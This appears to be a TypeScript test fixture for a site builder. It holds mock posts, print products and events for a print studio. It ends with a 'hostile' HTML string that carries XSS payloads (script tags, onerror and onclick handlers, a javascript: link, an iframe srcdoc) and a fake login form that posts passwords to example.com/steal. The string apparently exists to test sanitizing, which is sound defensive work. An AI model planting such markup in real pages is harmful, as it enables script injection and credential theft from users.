/** The items of the summaries that a mocked site renders. */

/** The content of each summary instead. Default: items by its id, its type of collection or its settings. */
export type SummaryScenario = 'empty' | 'hostile';

/** An item as a site builder's summary shows it. */
export interface SummaryItem {
  readonly title: string;
  readonly url: string;
  readonly excerpt: string;
  readonly image: string;
  /** The date of a post or an event, as `YYYY-MM-DD`. */
  readonly date?: string;
  readonly price?: string;
}

const posts: readonly SummaryItem[] = [
  {
    title: 'Five days of wind',
    url: '/halden/journal-leeward.html',
    excerpt: 'How Leeward was made: the measurements of one buoy & a ruler.',
    image: 'images/leeward.svg',
    date: '2026-10-02',
  },
  {
    title: 'Paper that lies flat',
    url: '/halden/journal.html?post=paper',
    excerpt: 'Why each print rests for two days before it is packed.',
    image: 'images/saltmarsh.svg',
    date: '2026-09-11',
  },
  {
    title: 'What a print costs',
    url: '/halden/journal.html?post=costs',
    excerpt: 'Paper, ink, a frame, and an hour at the table.',
    image: 'images/tidepool.svg',
    date: '2026-08-28',
  },
];

const products: readonly SummaryItem[] = [
  {
    title: 'Leeward',
    url: '/halden/prints.html',
    excerpt: 'A flow field with one calm side.',
    image: 'images/leeward.svg',
    price: '€180.00',
  },
  {
    title: 'Far Shore',
    url: '/halden/prints.html',
    excerpt: 'A coast of circles, packed until no more fit.',
    image: 'images/far-shore.svg',
    price: '€145.00',
  },
  {
    title: 'Homespun',
    url: '/halden/prints.html',
    excerpt: 'A woven grid with one loose thread.',
    image: 'images/homespun.svg',
    price: '€120.00',
  },
];

const events: readonly SummaryItem[] = [
  {
    title: 'Open studio',
    url: '/halden/visit.html',
    excerpt: 'The plotter draws while you watch.',
    image: 'images/moonrise.svg',
    date: '2027-03-06',
  },
  {
    title: 'Paper evening',
    url: '/halden/visit.html',
    excerpt: 'Four papers, one print.',
    image: 'images/saltmarsh.svg',
    date: '2027-04-10',
  },
];

/** Returns the items of a summary: those of events for a collection of events, and prints for an id with "print" or "product". */
export function itemsOf(id: string, isOfEvents: boolean): readonly SummaryItem[] {
  if (isOfEvents) return events;
  return /print|product/i.test(id) ? products : posts;
}

/** HTML of a server that has been taken over: scripts, handlers, unsafe URLs, a form and a style. */
export const hostileHtml = `<article onclick="alert(1)"><h3><a href="javascript:alert(1)">Free prints</a></h3>
<img src="/none.png" onerror="alert(1)" alt="A print"><p>Only today.</p></article><script>alert(1)</script>
<form action="https://example.com/steal"><input name="password" type="password"><button>Log in</button></form>
<style>main { display: none }</style><iframe srcdoc="<script>alert(1)</script>"></iframe>`;
